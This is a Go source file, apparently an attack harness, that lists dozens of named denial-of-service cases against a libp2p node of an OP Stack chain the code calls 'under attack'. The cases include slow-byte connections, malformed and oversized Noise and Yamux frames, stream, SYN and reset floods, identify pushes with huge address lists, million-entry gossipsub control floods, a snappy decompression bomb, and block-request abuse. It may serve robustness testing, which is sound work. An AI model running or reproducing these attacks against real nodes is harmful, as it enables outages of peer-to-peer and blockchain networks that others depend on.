package main

import (
	"encoding/binary"
	"time"

	"github.com/libp2p/go-libp2p/core/protocol"
)

const (
	gossip   protocol.ID = "/meshsub/1.1.0"
	identify protocol.ID = "/ipfs/id/1.0.0"
	push     protocol.ID = "/ipfs/id/push/1.0.0"
	ping     protocol.ID = "/ipfs/ping/1.0.0"
	blocks   protocol.ID = "/opstack/req/payload_by_number/901/0"
	topic                = "/optimism/901/3/blocks" // of the chain under attack
	million              = 1_000_000
)

// overYamux is a case that begins with a secured connection that speaks Yamux.
func overYamux(run func(*session) error) func(*attack) error {
	return func(a *attack) error {
		s, err := a.yamux()
		if err != nil {
			return err
		}
		a.drain(s.conn)
		return run(s)
	}
}

// onStream also opens a stream of a protocol.
func onStream(id protocol.ID, run func(*session, uint32) error) func(*attack) error {
	return overYamux(func(s *session) error {
		stream, err := s.open(id)
		if err != nil {
			return err
		}
		return run(s, stream)
	})
}

// rpc is a case that sends the same gossip frame again and again.
func rpc(contents func() []byte) func(*attack) error {
	return onStream(gossip, func(s *session, stream uint32) error {
		bytes := lengthPrefixed(contents())
		return s.again(func(int) error { return s.write(stream, bytes) })
	})
}

func control(kind uint64, piece []byte, times int) func() []byte {
	return func() []byte { return field(3, repeat(field(kind, piece), times)) }
}

var cases = map[string]func(*attack) error{
	// --- before and under Noise ---
	"tcp-silence": func(a *attack) error { return nil },
	"tcp-byte-a-second": func(a *attack) error {
		bytes := proposal("/noise")
		return a.slowly(time.Second, func(i int) error { return a.raw(bytes[i%len(bytes) : i%len(bytes)+1]) })
	},
	"tcp-garbage": func(a *attack) error { return a.again(func(int) error { return a.raw(noise(4096)) }) },
	"multistream-huge-length": func(a *attack) error {
		return a.raw(append(binary.AppendUvarint(nil, 1<<40), noise(1024)...))
	},
	"multistream-no-newline": func(a *attack) error { return a.raw(append([]byte{20}, noise(20)...)) },
	"multistream-unknown-forever": func(a *attack) error {
		if err := a.raw(message("/multistream/1.0.0")); err != nil {
			return err
		}
		a.drain(a.conn)
		return a.again(func(int) error { return a.raw(message("/no/such/protocol")) })
	},
	"multistream-half-a-proposal": func(a *attack) error { return a.raw(proposal("/noise")[:22]) },
	"noise-truncated-handshake":   func(a *attack) error { return a.raw(append(proposal("/noise"), 0, 32, 1, 2, 3)) },
	"noise-garbage-handshake": func(a *attack) error {
		return a.raw(append(proposal("/noise"), append([]byte{0xff, 0xff}, noise(0xffff)...)...))
	},
	"noise-tampered": func(a *attack) error {
		if _, err := a.secure(); err != nil {
			return err
		}
		return a.raw(append([]byte{0x01, 0x00}, noise(256)...))
	},
	"noise-oversized": func(a *attack) error {
		if _, err := a.secure(); err != nil {
			return err
		}
		return a.again(func(int) error { return a.raw(append([]byte{0xff, 0xff}, noise(0xffff)...)) })
	},
	"noise-empty-messages": func(a *attack) error {
		conn, err := a.secure()
		if err != nil {
			return err
		}
		return a.again(func(int) error { _, err := conn.Write([]byte{0}); return over(err) })
	},

	// --- Yamux ---
	"yamux-unknown-type": overYamux(func(s *session) error { return s.send(frame(0, 9, 0, 1, 0, nil)) }),
	"yamux-bad-version":  overYamux(func(s *session) error { return s.send(frame(7, typeData, flagSYN, 1, 0, nil)) }),
	"yamux-unknown-stream": overYamux(func(s *session) error {
		return s.again(func(i int) error { return s.send(data(uint32(2*i+1001), 0, noise(1000))) })
	}),
	"yamux-reused-id":    onStream(ping, func(s *session, stream uint32) error { return s.send(data(stream, flagSYN, nil)) }),
	"yamux-wrong-parity": overYamux(func(s *session) error { return s.send(data(2, flagSYN, nil)) }),
	"yamux-stream-zero":  overYamux(func(s *session) error { return s.send(data(0, flagSYN, noise(10))) }),
	"yamux-window-overflow": onStream(ping, func(s *session, stream uint32) error {
		return s.again(func(int) error { return s.send(frame(0, typeWindow, 0, stream, 0xffffffff, nil)) })
	}),
	"yamux-beyond-the-window":   onStream(ping, func(s *session, stream uint32) error { return s.write(stream, noise(8<<20)) }),
	"yamux-length-without-data": onStream(ping, func(s *session, stream uint32) error { return s.send(frame(0, typeData, 0, stream, 0xffffffff, nil)) }),
	"yamux-syn-flood": overYamux(func(s *session) error {
		return s.again(func(i int) error { return s.send(frame(0, typeWindow, flagSYN, uint32(2*i+1), 0, nil)) })
	}),
	"yamux-open-and-reset": overYamux(func(s *session) error {
		return s.again(func(i int) error {
			id := uint32(2*i + 1)
			return s.send(data(id, flagSYN, proposal(ping)), frame(0, typeWindow, flagRST, id, 0, nil))
		})
	}),
	"yamux-reset-storm": overYamux(func(s *session) error {
		return s.again(func(i int) error { return s.send(frame(0, typeWindow, flagRST, uint32(2*i+1), 0, nil)) })
	}),
	"yamux-acks-of-nothing": overYamux(func(s *session) error {
		return s.again(func(i int) error { return s.send(frame(0, typeWindow, flagACK, uint32(2*i+2), 0, nil)) })
	}),
	"yamux-ping-flood": overYamux(func(s *session) error {
		return s.again(func(i int) error { return s.send(frame(0, typePing, flagSYN, 0, uint32(i), nil)) })
	}),
	"yamux-go-away-and-go-on": overYamux(func(s *session) error {
		if err := s.send(frame(0, typeGoAway, 0, 0, 0, nil)); err != nil {
			return err
		}
		return s.again(func(int) error { _, err := s.open(ping); return err })
	}),
	"yamux-empty-data": onStream(ping, func(s *session, stream uint32) error {
		return s.again(func(int) error { return s.send(data(stream, 0, nil)) })
	}),

	// --- streams ---
	"streams-never-used": overYamux(func(s *session) error {
		for range 5000 {
			if _, err := s.open(ping); err != nil {
				return err
			}
		}
		return nil
	}),
	"streams-half-negotiated": overYamux(func(s *session) error {
		return s.again(func(int) error {
			stream := s.next
			s.next += 2
			return s.send(data(stream, flagSYN, proposal(ping)[:25]))
		})
	}),
	"streams-unknown-protocols": overYamux(func(s *session) error {
		return s.again(func(int) error { _, err := s.open("/no/such/protocol/at/all"); return err })
	}),
	"streams-never-read": func(a *attack) error { // nothing is read, so what the node answers piles up
		s, err := a.yamux()
		if err != nil {
			return err
		}
		return s.again(func(int) error { _, err := s.open(ping); return err })
	},

	// --- identify ---
	"identify-push-oversized": onStream(push, func(s *session, stream uint32) error {
		return s.write(stream, lengthPrefixed(field(6, noise(1<<20))))
	}),
	"identify-push-truncated": onStream(push, func(s *session, stream uint32) error {
		return s.write(stream, append(binary.AppendUvarint(nil, 5000), noise(100)...))
	}),
	"identify-push-100000-addresses": onStream(push, func(s *session, stream uint32) error {
		return s.write(stream, lengthPrefixed(repeat(field(2, []byte{4, 127, 0, 0, 1, 6, 1, 2}), 100_000)))
	}),
	"identify-push-flood": overYamux(func(s *session) error {
		return s.again(func(int) error {
			stream, err := s.open(push)
			if err != nil {
				return err
			}
			return s.send(data(stream, flagFIN, lengthPrefixed(field(6, []byte("x")))))
		})
	}),

	// --- gossip ---
	"gossip-million-ihave": rpc(control(1, append(field(1, []byte(topic)), field(2, noise(20))...), million/20)),
	"gossip-million-ids": rpc(func() []byte {
		return field(3, field(1, append(field(1, []byte(topic)), repeat(field(2, noise(20)), million/25)...)))
	}),
	"gossip-million-iwant": rpc(control(2, field(1, noise(20)), million/20)),
	"gossip-million-graft": rpc(control(3, field(1, []byte(topic)), million/30)),
	"gossip-million-prune": rpc(control(4, append(field(1, []byte(topic)), field(2, field(1, noise(38)))...), million/60)),
	"gossip-oversized":     onStream(gossip, func(s *session, stream uint32) error { return s.write(stream, binary.AppendUvarint(nil, 1<<40)) }),
	"gossip-garbage":       rpc(func() []byte { return noise(1000) }),
	"gossip-100000-topics": rpc(func() []byte { return repeat(field(1, append([]byte{8, 1}, field(2, noise(20))...)), 25_000) }),
	"gossip-other-topics":  rpc(func() []byte { return field(2, append(field(2, noise(1000)), field(4, []byte("/no/such/topic"))...)) }),
	"gossip-snappy-bomb": rpc(func() []byte {
		return field(2, append(field(2, append(binary.AppendUvarint(nil, 1<<30), noise(100)...)), field(4, []byte(topic))...))
	}),
	"gossip-same-again": rpc(func() []byte { return field(2, append(field(2, noise(100_000)), field(4, []byte(topic))...)) }),
	"gossip-always-new": onStream(gossip, func(s *session, stream uint32) error {
		return s.again(func(int) error {
			return s.write(stream, lengthPrefixed(field(2, append(field(2, noise(10_000)), field(4, []byte(topic))...))))
		})
	}),
	"gossip-byte-a-second": onStream(gossip, func(s *session, stream uint32) error {
		return s.slowly(time.Second, func(int) error { return s.write(stream, []byte{200}) })
	}),

	// --- payload_by_number ---
	"blocks-half-requests": overYamux(func(s *session) error {
		return s.again(func(int) error {
			stream, err := s.open(blocks)
			if err != nil {
				return err
			}
			return s.write(stream, []byte{1, 0, 0, 0})
		})
	}),
	"blocks-never-read": func(a *attack) error {
		s, err := a.yamux()
		if err != nil {
			return err
		}
		return s.again(func(i int) error {
			stream, err := s.open(blocks)
			if err != nil {
				return err
			}
			return s.send(data(stream, flagFIN, binary.LittleEndian.AppendUint64(nil, uint64(i%20+1))))
		})
	},
	"blocks-oversized-request": onStream(blocks, func(s *session, stream uint32) error { return s.write(stream, noise(200_000)) }),
	"blocks-ask-and-leave": overYamux(func(s *session) error {
		return s.again(func(i int) error {
			stream, err := s.open(blocks)
			if err != nil {
				return err
			}
			return s.send(data(stream, 0, binary.LittleEndian.AppendUint64(nil, 1)), frame(0, typeWindow, flagRST, stream, 0, nil))
		})
	}),
	"blocks-byte-a-second": onStream(blocks, func(s *session, stream uint32) error {
		return s.slowly(time.Second, func(int) error { return s.write(stream, []byte{1}) })
	}),
}

func (a *attack) raw(bytes []byte) error {
	_, err := a.conn.Write(bytes)
	return err
}
